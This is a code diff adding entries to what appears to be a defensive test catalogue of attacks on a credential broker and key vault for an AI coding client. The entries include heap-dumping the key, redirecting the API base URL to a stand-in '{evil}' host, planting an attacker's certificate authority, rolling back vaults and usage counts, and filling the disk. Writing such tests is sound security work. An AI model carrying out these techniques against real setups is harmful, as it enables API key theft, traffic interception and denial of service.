@@ -35,7 +35,7 @@ class Technique:
     at: tuple = EVERYWHERE
     after: str = ""
     inside: str = "standin"
-    limited: bool = False   # with the key that has a limit
+    entry: str = "demo"     # the key: columns.py
     short: bool = True
     racy: bool = False      # it depends on luck: a better cell is no news
     given: str = ""         # the choice, in followups.py
@@ -114,6 +114,8 @@ TECHNIQUES = [
     alone(READ, "fake-broker", "kill the broker, take its place, hear what it is told", r.fake_broker, "unlock",
           told=b"unlock"),
     seen(READ, "echo-plain", "a provider that answers with the key", u.echo("plain")),
+    alone(READ, "heapdump", "/heapdump in full screen, what forbids it undone in the settings", r.heap_dump,
+          "heap_dumped", short=False),
     # ---- use ----
     seen(USE, "raw-session", "open a session by the raw protocol", u.raw_session),
     seen(USE, "ticket", "show the session's ticket, which is in its children's environment", u.ticket),
@@ -131,7 +133,9 @@ TECHNIQUES = [
     seen(USE, "smuggling", "a request that two readers take for two", u.smuggling, TWO, short=False),
     seen(USE, "routing-fields", "header fields that route, authenticate or override", u.routing, TWO),
     seen(USE, "quota-worker", "pose as the worker that asks for quota numbers", u.quota_worker, TWO),
-    alone(USE, "limit-burst", "more requests at once than the limit leaves", u.burst, "standin", limited=True),
+    alone(USE, "limit-burst", "more requests at once than the limit leaves", u.burst, "standin", entry="capped"),
+    alone(USE, "limit-rolled-back", "the count of what is used put back, for the next broker", d.spend_and_keep,
+          "spent_again", entry="capped-too", short=False),
     alone(USE, "by-service", "a service of the person's runs what it is told", u.by_service,
           "standin",
           short=False),
@@ -159,6 +163,10 @@ TECHNIQUES = [
           g.both(g.of_env("user", CLAUDE_CODE_PROVIDER_MANAGED_BY_HOST="0"),
                  g.of_env("local", ANTHROPIC_BASE_URL="{evil}", CLAUDE_CODE_PROVIDER_MANAGED_BY_HOST="")), "client"),
     alone(REDIRECT, "proxies", "proxies in the settings", g.of_env("user", **g.PROXIES), "client"),
+    alone(REDIRECT, "own-authority", "an authority and a proxy of the attacker's in the settings", g.own_authority,
+          "client", entry="tls"),
+    alone(REDIRECT, "changed-authority", "the attacker's authority in the person's own file of them",
+          g.changed_authority, "client", entry="tls"),
     alone(REDIRECT, "cloud", "Bedrock and its address in the settings",
           g.of_env("project", CLAUDE_CODE_USE_BEDROCK="1", ANTHROPIC_BEDROCK_BASE_URL="{evil}", AWS_REGION="eu-west-1",
                    CLAUDE_CODE_SKIP_BEDROCK_AUTH="1"), "client"),
@@ -265,6 +273,8 @@ TECHNIQUES = [
     alone(DENY, "remove", "have the broker remove, replace or approve", d.remove, "standin"),
     alone(DENY, "vault-removed", "remove the vault's file", d.vault_removed, "standin"),
     alone(DENY, "vault-changed", "damage the vault's file", d.vault_swapped, "standin"),
+    alone(DENY, "vault-rolled-back", "put an older vault in its place", d.keep_older, "rolled_back", short=False),
+    alone(DENY, "disk-filled", "fill the disk with the vault and the audit log", d.fill_disk, "filled"),
     alone(DENY, "config-removed", "remove the provider's file", d.config_removed, "standin"),
     alone(DENY, "runtime-opened", "open the socket's directory to all", d.runtime_opened, "standin"),
     alone(DENY, "socket-removed", "remove the broker's socket", d.socket_removed, "standin"),
